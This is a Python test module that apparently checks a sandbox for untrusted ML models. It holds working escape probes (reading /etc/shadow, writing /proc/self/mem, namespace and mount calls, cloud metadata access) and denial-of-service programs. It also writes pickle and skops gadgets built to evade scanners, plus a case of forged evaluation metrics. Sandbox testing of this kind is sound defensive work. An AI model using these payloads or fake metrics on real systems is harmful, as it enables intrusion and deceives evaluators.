"""What hostile code tries: programs in the place of ours, and models of every form that run the same tries.

Standard library only: all of this is text that runs inside.
"""

from __future__ import annotations

import json
from pathlib import Path

# The tries that end no process, in one function; it names those that succeeded.
EXPLORE = r'''
import ctypes, json, mmap, os, signal, socket, struct, sys

def explore(place="/sekisho/input/task.json"):
    try:
        task = json.load(open(place))["told"]
    except (OSError, KeyError):
        return ["was told nothing"]
    libc = ctypes.CDLL(None, use_errno=True)
    succeeded = []

    def attempt(name, action):
        try:
            if action():
                succeeded.append(name)
        except BaseException:
            pass

    def call(name, *arguments):
        return lambda: getattr(libc, name)(*arguments) >= 0

    def holds(path):
        with open(path, "rb") as file:
            return b"hunter2" in file.read(10**6)

    def written(path, mode="ab"):
        with open(path, mode, buffering=0) as file:
            return file.write(b"x") >= 0

    def immune():
        with open("/proc/self/oom_score_adj", "r+") as score:
            score.write("-1000")
        return True

    def capable():
        return [l for l in open("/proc/self/status") if l.startswith("Cap") and int(l.split()[1], 16)]

    def connected(family, address):
        with socket.socket(family) as link:
            link.settimeout(0.3)
            link.connect(address)
            return True

    for path in task["secrets"]:
        attempt(f"read {path}", lambda: holds(path))
    for path in ("/root/.ssh", "/root/.bashrc", "/etc/shadow", "/etc/passwd", "/etc/ssh", "/var/lib", "/home", "/mnt",
                 "/proc/1/root/etc/shadow", "/proc/1/cwd/etc/shadow", "/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/fuse",
                 task["home"], task["project"] + "/manage.py", task["project"] + "/portal/settings.py"):
        attempt(f"found {path}", lambda: os.lstat(path) and os.access(path, os.R_OK))
    attempt("secrets in the environment", lambda: any("hunter2" in f"{k}{v}" for k, v in os.environ.items()))
    for number in [n for n in os.listdir("/proc") if n.isdigit()]:
        attempt("environment of a process", lambda: holds(f"/proc/{number}/environ"))
        attempt("stranger", lambda: task["marker"].encode() in open(f"/proc/{number}/cmdline", "rb").read())
        attempt("memory of a process", lambda: number != str(os.getpid()) and open(f"/proc/{number}/mem", "r+b"))
    for host in ("127.0.0.1", "192.0.2.1", "169.254.169.254"):
        attempt(f"connected {host}", lambda: connected(socket.AF_INET, (host, task["port"])))
    attempt("connected ::1", lambda: connected(socket.AF_INET6, ("::1", task["port"])))
    attempt("abstract socket", lambda: connected(socket.AF_UNIX, "\0" + task["marker"]))
    attempt("unix socket", lambda: connected(socket.AF_UNIX, task["home"] + "/socket"))
    attempt("names", lambda: socket.getaddrinfo("example.org", 80))
    for family in (17, 31, 38, 40, 44):  # packet, bluetooth, crypto, vsock (a way to the machine's host), xdp
        attempt(f"socket family {family}", lambda: socket.socket(family, socket.SOCK_STREAM))
        attempt(f"socket family {family}", lambda: socket.socket(family, socket.SOCK_RAW))
    attempt("another network card", lambda: [n for _, n in socket.if_nameindex() if n != "lo"])
    places = [task["outside"] + "/x", "/x", "/usr/x", "/etc/x", "/dev/x", "/sekisho/x", "/sekisho/model/x",
              "/sekisho/model/MLmodel", "/sekisho/inside/child.py", "/sekisho/input/task.json", sys.prefix + "/x",
              os.path.realpath(sys.executable), "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
              "/proc/sysrq-trigger", "/proc/1/mem", "/proc/1/oom_score_adj", "/proc/1/comm"]
    for path in places:
        attempt(f"wrote {path}", lambda: written(path))
        attempt(f"mode of {path}", lambda: os.chmod(path, 0o777) is None)
    attempt("oom score", immune)
    attempt("removed the model", lambda: os.rename("/sekisho/model/MLmodel", "/sekisho/model/gone") is None)
    attempt("planted a link", lambda: os.symlink(task["secrets"][0], "/sekisho/model/link") is None)
    attempt("planted a link in the input", lambda: os.symlink(task["secrets"][0], "/sekisho/input/link") is None)
    attempt("hard link", lambda: os.link("/sekisho/model/MLmodel", "/tmp/hard") is None)
    try:
        os.symlink(task["secrets"][0], "/tmp/answer")
        attempt("read by a link", lambda: holds("/tmp/answer"))
    except OSError:
        pass

    def through_memory():
        """Write to a read-only mapping of a read-only file by way of /proc/self/mem."""
        with open("/sekisho/model/MLmodel", "rb") as file:
            view = mmap.mmap(file.fileno(), 0, mmap.MAP_SHARED, mmap.PROT_READ)
            address = next(int(l.split("-")[0], 16) for l in open("/proc/self/maps") if "MLmodel" in l)
            with open("/proc/self/mem", "r+b", buffering=0) as memory:
                memory.seek(address)
                memory.write(b"owned")
            return view[:5] == b"owned"

    attempt("memory trick", through_memory)
    attempt("became root", lambda: os.getuid() and os.setuid(0) is None)
    attempt("has capabilities", capable)
    attempt("user namespace", call("unshare", 0x10000000))
    attempt("mount namespace", call("unshare", 0x00020000))
    attempt("mount", call("mount", b"none", b"/tmp", b"tmpfs", 0, b"size=8g"))
    attempt("remount", call("mount", b"none", b"/", b"", 0x20 | 0x1000, b""))
    attempt("unmounted", call("umount2", b"/sekisho/model", 2))
    attempt("chroot", call("chroot", b"/tmp"))
    attempt("traced its parent", call("ptrace", 16, os.getppid(), 0, 0))
    attempt("joined a namespace", lambda: libc.setns(os.open("/proc/1/ns/net", os.O_RDONLY), 0) == 0)
    attempt("device", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0)) is None)
    attempt("host name", call("sethostname", b"owned", 5))
    attempt("memory that nobody counts", lambda: os.memfd_create("x"))
    attempt("kernel keys", call("syscall", 250, 0, 0, 0, 0, 0))
    attempt("io_uring", call("syscall", 425, 4, ctypes.create_string_buffer(256)))
    attempt("bpf", call("syscall", 321, 0, 0, 0))
    attempt("raised a limit", lambda: __import__("resource").setrlimit(0, (-1, -1)) is None)
    return succeeded
'''
PREAMBLE = (
    EXPLORE
    + r"""
import time
out = os.fdopen(os.dup(1), "wb")
os.dup2(2, 1)
def answer(**payload):
    text = json.dumps(payload).encode()
    out.write(b"result %d\n" % len(text) + text); out.close()
def say(data):
    out.write(data); out.flush()
def predicted(*numbers):
    listed = [{"name": "predictions", "shape": [len(numbers)]}]
    text = json.dumps({"kind": "number", "arrays": listed}).encode()
    say(b"result %d\n" % len(text) + text + struct.pack(f"<{len(numbers)}d", *numbers))
"""
)

# Each runs in the place of our program, and ends in its own way.
PROGRAMS = {
    "explore": "answer(succeeded=explore(), user=os.getuid(), groups=os.getgroups())",
    "fill": """
def fill(folder):
    total = 0
    try:
        for i in range(200):
            open(f"{folder}/{i}", "wb").write(b"x" * 2**20); total += 1
    except OSError:
        pass
    return total
def files(folder):
    made = 0
    try:
        while made < 10**6:
            open(f"{folder}/n{made}", "wb").close(); made += 1
    except OSError:
        pass
    return made
answer(tmp=fill("/tmp"), shm=fill("/dev/shm"), devices=fill("/dev"))
""",
    "fork bomb": """
made = 0
try:
    while made < 2000:
        if os.fork() == 0:
            time.sleep(60); os._exit(0)
        made += 1
except OSError:
    pass
answer(made=made)
os._exit(0)
""",
    "threads": """
import threading
made = 0
threading.stack_size(2**16)
try:
    while made < 2000:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start(); made += 1
except RuntimeError:
    pass
answer(made=made)
os._exit(0)
""",
    "signals": """
for sign in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
    for target in (1, os.getppid(), *range(2, 200)):
        if target != os.getpid():
            try:
                os.kill(target, sign)
            except OSError:
                pass
answer(sent=True)
""",
    "orphan": """
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
if os.fork() == 0:
    os.setsid()
    os.closerange(0, 50)
    time.sleep(60)
answer(left=True)
os._exit(0)
""",
    "loop at load": "say(b'phase load\\n')\nwhile True: pass",
    "loop at predict": "say(b'phase load\\nphase predict\\n')\nwhile True: pass",
    "processor": "while True: pass",
    "silence": "os.close(1); out.close(); os.close(2)\ntime.sleep(60)",
    "memory": "keep = []\nwhile True: keep.append(bytearray(os.urandom(2**20)) * 32)",
    "memory of many": "for _ in range(3): os.fork()\nkeep = []\nwhile True: keep.append(b'x' * 2**25)",
    "output": "while True: out.write(b'x' * 2**20)",
    "noise": "for _ in range(200): os.write(2, b'n' * 2**16)\nanswer(ok=True)",
    "segfault": "say(b'phase predict\\n')\nctypes.string_at(0)",
    "exit": "os._exit(0)",
    "no answer": "say(b'x' * 100)",
    "huge size": "say(b'result 99999999999\\n{}')",
    "size of no digits": "say('result ²\\n{}'.encode())",
    "no object": "say(b'result 2\\n[]')",
    "deep JSON": "t = b'[' * 200000; say(b'result %d\\n' % len(t) + t)",
    "deep objects": "t = b'{\"a\":' * 200000; say(b'result %d\\n' % len(t) + t)",
    "huge number": "t = b'{\"a\": ' + b'9' * 10**6 + b'}'; say(b'result %d\\n' % len(t) + t)",
    "huge exponent": "t = b'{\"a\": 1e999}'; say(b'result %d\\n' % len(t) + t)",
    "not a number": "t = b'{\"a\": NaN}'; say(b'result %d\\n' % len(t) + t)",
    "huge array": "answer(arrays=[{'name': 'a', 'shape': [2**30, 2**9]}])",
    "negative array": "answer(arrays=[{'name': 'a', 'shape': [-1]}])",
    "array of nothing": "answer(arrays='x')",
    "bytes of nowhere": "answer(blocks=[2**40])",
    "two answers": "say(b'result 2\\n{}result 2\\n{}')",
    # What a model would like us to believe; `predict` reads these.
    "forged metrics": "answer(accuracy=1.0, verdict='pass', fairness={'verdict': 'pass'}, arrays=[])",
    "wrong length": "predicted(1.0, 0.0)",
    "no finite values": "predicted(float('nan'), float('inf'), 1.0)",
}  # fmt: skip

MODULE = (
    EXPLORE
    + """
import builtins
if not hasattr(builtins, "found"):
    builtins.found = []
found = builtins.found
found.append(["imported", explore()])
class Model:
    def __init__(self):
        found.append(["made", explore()])
        print("result 2\\n{}", flush=True)
    def __setstate__(self, state):
        found.append(["restored", explore()])
    def load_context(self, context):
        found.append(["context", explore()])
    def predict(self, table, params=None):
        found.append(["predicted", explore()])
        return [json.dumps(found)] * len(table)
"""
)
AGENT = """
import mlflow, sys
sys.path.insert(0, "/sekisho/model/code")
from hostile import Model, explore, found
class Agent(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        found.append(["context", explore()])
    def predict(self, context, model_input, params=None):
        return Model.predict(None, model_input)
mlflow.models.set_model(Agent())
"""


def write_models(folder: Path) -> None:
    """One model a form, each with the same tries in it: ``gadgets``, ``skops`` and ``from_code``."""
    for name, flavor in {
        "gadgets": {"sklearn": {"pickled_model": "model.pkl", "serialization_format": "cloudpickle", "code": "code"}},
        "skops": {
            "sklearn": {
                "pickled_model": "model.skops", "serialization_format": "skops", "code": "code",
                "skops_trusted_types": ["hostile.Model"],
            }
        },
        "from_code": {
            "python_function": {
                "loader_module": "mlflow.pyfunc.model", "model_code_path": "agent.py", "env": {},
                "python_version": "3.11.0",
            }
        },
    }.items():  # fmt: skip
        model = folder / name
        (model / "code").mkdir(parents=True)
        (model / "code" / "hostile.py").write_text(MODULE, "utf-8")
        (model / "MLmodel").write_text(json.dumps({"flavors": flavor}), "utf-8")
    # importlib runs a module, and joblib opens a second pickle that no scanner of the first one sees.
    (folder / "gadgets" / "model.pkl").write_bytes(
        b"cimportlib\nimport_module\n(Vhostile\ntR0cjoblib\nload\n(V/sekisho/model/inner.joblib\ntR."
    )
    (folder / "gadgets" / "inner.joblib").write_bytes(b"chostile\nModel\n(tR.")
    (folder / "from_code" / "agent.py").write_text(AGENT, "utf-8")
    _write_skops(folder / "skops" / "model.skops")


def _write_skops(path: Path) -> None:
    """As ``skops.io.dump`` writes an object of the model's own class."""
    import zipfile

    state = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {},
             "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [],
                           "__id__": 3}, "__id__": 2}  # fmt: skip
    schema = {"__class__": "Model", "__module__": "hostile", "__loader__": "ObjectNode", "content": state, "__id__": 1,
              "protocol": 2, "_skops_version": "0.16.0"}  # fmt: skip
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
